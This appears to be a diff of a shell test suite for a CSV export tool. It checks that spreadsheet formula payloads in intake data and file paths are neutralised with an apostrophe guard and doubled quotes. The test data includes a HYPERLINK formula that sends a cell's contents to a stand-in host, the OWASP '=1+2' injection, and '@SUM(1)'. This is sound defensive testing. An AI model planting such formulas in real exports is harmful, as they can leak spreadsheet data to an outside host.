@@ -468,7 +468,9 @@ cell_case() {
     n=$((n + 1))
     id=$(printf 'cell-%02d' "$n")
     intake "$id" "$1" >"$C/in/$id.yaml"
-    printf '%s\n' "$2" >"$C/want-$id"
+    # --excel writes the formula guard (a leading '); plain data keeps the value
+    printf '%s\n' "$2" >"$C/want-$id-excel"
+    printf '%s\n' "${2#\'}" >"$C/want-$id-out"
 }
 # 24. formula payloads: quoted, apostrophe-prefixed, quotes doubled
 cell_case "'=HYPERLINK(\"http://x/?\"&A1)'" "'=HYPERLINK(\"http://x/?\"&A1)"
@@ -523,16 +525,16 @@ while [ $k -lt $cases ]; do
         [ "$("$CSVCHECK" cell "$C/$d/needs.csv" $row intake_id)" = "$id" ] ||
             fail "row $row of $d/needs.csv is not $id"
         "$CSVCHECK" cell "$C/$d/needs.csv" $row organisation >"$C/got-$id-$d"
-        cmp -s "$C/want-$id" "$C/got-$id-$d" || {
-            echo "want: $(cat "$C/want-$id")  got: $(cat "$C/got-$id-$d")" >&2
+        cmp -s "$C/want-$id-$d" "$C/got-$id-$d" || {
+            echo "want: $(cat "$C/want-$id-$d")  got: $(cat "$C/got-$id-$d")" >&2
             fail "$id: the organisation cell in $d/needs.csv is not what the intake says"
         }
     done
-    ok "$id: $(head -c 60 "$C/want-$id") comes out exactly so (plain and --excel)"
+    ok "$id: $(head -c 60 "$C/want-$id-out") comes out exactly so (and guarded with --excel: $(head -c 30 "$C/want-$id-excel"))"
     k=$((k + 1))
 done
 # the raw bytes of the OWASP example: wrapped, prefixed, quotes doubled
-grep -qF '"cell-07","'"'"'=1+2"";=1+2",' "$C/out/needs.csv" ||
+grep -qF '"cell-07","'"'"'=1+2"";=1+2",' "$C/excel/needs.csv" ||
     fail "=1+2\";=1+2 is not written as \"'=1+2\"\";=1+2\""
 ok "=1+2\";=1+2 is written as \"'=1+2\"\";=1+2\""
 # 25. numbers stay numbers: negative and fractional scores are bare cells
@@ -614,7 +616,7 @@ intake rel-a >"$WORK/rel/=1+2/a.yaml"
 intake rel-d >"$WORK/rel/-2+3/d.yaml"
 (
     cd "$WORK/rel"
-    expect_exit 1 "$WORK/rel/log" timeout 60 "$PF" run --rules "$SRC/rules" \
+    expect_exit 1 "$WORK/rel/log" timeout 60 "$PF" run --excel --rules "$SRC/rules" \
         --policy "$SRC/policies/default.yaml" --out out -- =1+2 -2+3
 )
 r=$WORK/rel/out
@@ -628,7 +630,7 @@ r=$WORK/rel/out
 [ "$("$CSVCHECK" cell "$r/rejects.csv" 2 field)" = "'@SUM(1)" ] &&
     [ "$("$CSVCHECK" cell "$r/rejects.csv" 2 kind)" = "yaml.duplicate_key" ] ||
     fail "the duplicate key @SUM(1) was not neutralised in rejects.csv"
-grep -q "^\"rel-d\",\"Test Org rel-d\",.*,\"'-2+3/d.yaml\"\$" "$r/needs.csv" ||
+grep -q "^\"rel-d\",\"Test Org rel-d\",.*,\"'-2+3/d.yaml\"$(printf '\r')\$" "$r/needs.csv" ||
     fail "the source -2+3/d.yaml was not neutralised"
 ok "paths and keys from the file system and the intake are neutralised as cells"
 
